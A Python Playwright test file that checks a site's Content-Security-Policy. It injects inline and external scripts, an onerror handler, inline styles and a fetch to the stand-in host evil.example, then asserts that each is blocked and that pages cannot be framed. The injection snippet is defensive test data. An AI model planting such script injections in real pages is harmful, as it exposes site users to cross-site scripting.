"""The Content-Security-Policy: on our pages nothing inline runs and nobody else is asked; Datasette's own keep working."""

import pytest
from playwright.sync_api import Browser, Page, expect

OURS = ["/", "/search?q=postgresql", "/projects", "/review", "/talks/no-such-talk"]
INJECTED = """async () => {
    const violated = [];
    document.addEventListener("securitypolicyviolation", event => violated.push(event.effectiveDirective));
    const script = document.createElement("script");
    script.textContent = "window.ran = 1";
    const far = document.createElement("script");
    far.src = "https://evil.example/x.js";
    document.body.append(script, far);
    document.body.insertAdjacentHTML("beforeend", `
        <img src="data:," onerror="window.ran = 2">
        <p style="color: red">x</p>`);
    await fetch("https://evil.example/").catch(() => {});
    for (let waits = 0; violated.length < 5 && waits < 50; waits++) await new Promise(done => setTimeout(done, 20));
    return [window.ran, [...new Set(violated)].sort()];
}"""


@pytest.mark.parametrize("address", OURS)
def test_what_gets_into_our_pages_does_not_run(browser: Browser, site: str, address: str) -> None:
    page = browser.new_page(base_url=site)
    page.route("https://evil.example/**", lambda route: route.fulfill(content_type="text/javascript", body="ran = 3"))
    page.goto(address)
    ran, violated = page.evaluate(INJECTED)
    assert ran is None
    assert violated == ["connect-src", "script-src-attr", "script-src-elem", "style-src-attr"]
    page.close()


def test_our_pages_cannot_be_framed(browser: Browser, site: str) -> None:
    page = browser.new_page(base_url=site)
    page.goto("/-/versions.json")
    with page.expect_console_message(lambda message: "frame-ancestors 'none'" in message.text):
        page.evaluate("document.body.append(Object.assign(document.createElement('iframe'), { src: '/search' }))")
    page.close()


def test_the_pages_of_datasette_keep_their_own_scripts(page: Page) -> None:
    page.goto("/talkdex/talks?_facet=format")
    expect(page.get_by_role("heading", level=1)).to_contain_text("Talks")
    page.locator("th .dropdown-menu-icon").first.click()
    expect(page.get_by_text("Sort descending").locator("visible=true")).to_have_count(1)
    page.goto("/talkdex?sql=select+count(*)+from+talks")
    expect(page.locator(".rows-and-columns td")).to_be_visible()
